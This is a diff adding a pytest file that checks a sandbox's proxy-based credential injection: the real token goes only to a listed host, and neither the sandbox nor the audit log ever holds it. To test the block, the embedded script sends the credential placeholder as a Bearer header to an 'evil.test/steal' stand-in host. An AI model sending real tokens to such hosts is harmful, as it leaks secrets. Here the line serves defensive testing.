@@ -1,0 +1,96 @@
+"""inject = "proxy": the real value is added by the proxy, only for listed hosts.
+
+A local HTTPS server (test CA, TLS inspection on) sees the real header; the
+sandbox sees only the placeholder; a request carrying the placeholder to a
+host that is not listed never gets the value; no record holds the value.
+"""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from glassroom import Sandbox
+from glassroom.egress import HostsResolver, NetworkOptions
+from glassroom.egress.testing import LoopbackServer, TestCA
+
+BACKENDS = ["namespaces", "gvisor"]
+SECRET = "s3cr3t-proxy-canary-4f1c9e"
+
+FETCH = """\
+import os, ssl, urllib.request, urllib.error
+ph = os.environ["GLASSROOM_SECRET_GH"]
+print("PLACEHOLDER", ph)
+ctx = ssl.create_default_context()
+for url, auth in ((f"https://api.test:{PORT}/repos/x", None),
+                  (f"https://api.test:{PORT}/repos/y", "Bearer " + ph),
+                  (f"https://evil.test:{PORT}/steal", "Bearer " + ph)):
+    req = urllib.request.Request(url)
+    if auth:
+        req.add_header("Authorization", auth)
+    try:
+        r = urllib.request.urlopen(req, timeout=15, context=ctx)
+        print("STATUS", r.status)
+    except urllib.error.HTTPError as e:
+        print("STATUS", e.code)
+"""
+
+
+@pytest.fixture(scope="module")
+def ca() -> Iterator[TestCA]:
+    ca = TestCA(["api.test", "evil.test"])
+    yield ca
+    ca.cleanup()
+
+
+@pytest.fixture(scope="module")
+def server(ca: TestCA) -> Iterator[LoopbackServer]:
+    with LoopbackServer(tls=ca) as srv:
+        yield srv
+
+
+@pytest.mark.parametrize("backend", BACKENDS)
+def test_proxy_injects_only_for_listed_hosts(
+    backend: str, ca: TestCA, server: LoopbackServer, tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:  # fmt: skip
+    monkeypatch.setenv("GLASSROOM_TEST_GH_TOKEN", SECRET)
+    log = tmp_path / "a.jsonl"
+    policy = {
+        "network": {
+            "allow": ["api.test", "evil.test"],
+            "rules": [{"host": "api.test", "inspect_tls": True},
+                      {"host": "evil.test", "inspect_tls": True}],
+        },
+        "credentials": [{"name": "gh", "source": "env:GLASSROOM_TEST_GH_TOKEN",
+                         "inject": "proxy", "hosts": ["api.test"],
+                         "header": "Authorization: Bearer {secret}"}],
+    }  # fmt: skip
+    net = NetworkOptions(resolver=HostsResolver({"api.test": "127.0.0.1", "evil.test": "127.0.0.1"}),
+                         upstream_ca=ca.ca_file)  # fmt: skip
+    before = len(server.seen_headers)
+    with Sandbox(policy, backend=backend, audit_log=log, network=net) as sb:
+        res = sb.run(["python3", "-c", FETCH.replace("PORT", str(server.port))], timeout_s=60)
+        env = sb.run(["env"]).stdout
+        sid = sb.id
+    assert res.exit_code == 0, res.stderr
+    placeholder = res.stdout.split("PLACEHOLDER ", 1)[1].split()[0]
+    assert placeholder.startswith("glsr-") and SECRET not in res.stdout + env
+    assert res.stdout.count("STATUS 200") == 3
+    seen = server.seen_headers[before:]
+    auth = [h.get("Authorization", h.get("authorization")) for h in seen]
+    # Listed host: added when absent, swapped when the placeholder is sent.
+    assert auth[0] == f"Bearer {SECRET}" and auth[1] == f"Bearer {SECRET}"
+    # Unlisted host: the placeholder goes out as-is, never the value.
+    assert auth[2] == f"Bearer {placeholder}"
+    text = log.read_text()
+    assert SECRET not in text
+    recs = [json.loads(x) for x in text.splitlines() if json.loads(x)["sandbox"] == sid]
+    used = [r for r in recs if r["event"] == "credential.used"]
+    assert [r["details"]["host"] for r in used] == ["api.test", "api.test"]
+    blocked = [r for r in recs if r["event"] == "credential.placeholder_blocked"]
+    assert blocked and blocked[0]["details"]["host"] == "evil.test"
+    assert blocked[0]["decision"] == "deny" and blocked[0]["rule"] == "credentials[0].hosts"
